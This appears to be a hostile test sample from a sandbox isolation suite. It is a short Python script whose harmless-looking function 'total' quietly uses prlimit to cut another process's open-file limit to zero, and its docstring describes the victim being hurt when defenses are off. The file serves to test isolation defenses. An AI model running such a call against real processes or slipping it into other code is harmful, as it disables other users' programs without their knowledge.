"""Takes the right to open files from another process of the same user.

must hold: no process, thread or file is left; the next submission finds nothing changed
stopped by: filter, namespaces
control: off, the victim is hurt
"""

import json
import resource
from pathlib import Path

TARGET = json.loads(Path("target.json").read_text())


def total(x):
    resource.prlimit(TARGET["victim"], resource.RLIMIT_NOFILE, (0, 0))
    return x
